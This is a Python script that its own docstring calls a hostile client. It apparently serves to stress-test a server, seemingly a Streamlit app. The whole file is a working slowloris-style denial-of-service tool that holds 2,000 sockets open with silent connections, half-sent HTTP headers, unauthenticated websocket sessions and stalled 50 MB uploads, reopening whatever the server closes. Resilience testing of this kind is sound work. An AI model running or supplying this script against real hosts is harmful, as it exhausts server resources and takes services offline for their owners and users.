"""A stranger who means harm, in a process of their own: ``python stranger.py HOST PORT SECONDS``.

Opens sockets and keeps them: that say nothing, that say half of a request, that send a file byte by
byte, that ask for a session without a login. What the server shuts is opened again, at a rate that
costs this process little. Prints a line when everything is open once.
"""

from __future__ import annotations

import asyncio
import itertools
import sys
import time
from typing import Final

#: Together 2.000 sockets and 100 files.
KINDS: Final = {"nothing": 600, "half": 600, "session": 700, "file": 100}
#: seconds; between two sockets that are opened again.
_PACE_S: Final = 0.02


def opening(kind: str, host: str) -> bytes:
    """Return what is sent first over a socket of a kind."""
    if kind == "half":
        return f"GET / HTTP/1.1\r\nHost: {host}\r\nX-".encode()
    if kind == "session":
        return (
            f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
        ).encode()
    if kind == "file":
        return (
            f"PUT /_stcore/upload_file/x/y HTTP/1.1\r\nHost: {host}\r\n"
            "Content-Length: 50000000\r\n\r\n"
        ).encode()
    return b""


async def attack(name: str, port: int, seconds: float) -> None:
    """Keep every socket open for so long."""
    kinds = [kind for kind, count in KINDS.items() for _ in range(count)]
    turn, end = itertools.count(), time.monotonic() + seconds
    begun = asyncio.Event()
    pace = asyncio.Lock()

    async def keep(kind: str) -> None:
        while time.monotonic() < end:
            try:
                if begun.is_set():
                    async with pace:
                        await asyncio.sleep(_PACE_S)
                reader, writer = await asyncio.open_connection(name, port)
                writer.write(opening(kind, f"{name}:{port}"))
                if next(turn) == len(kinds) - 1:
                    sys.stdout.write("open\n")
                    sys.stdout.flush()
                    begun.set()
                while await asyncio.wait_for(reader.read(4096), end - time.monotonic()):
                    pass
                writer.close()
            except (OSError, TimeoutError):
                await asyncio.sleep(_PACE_S)

    await asyncio.gather(*(keep(kind) for kind in kinds))


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))
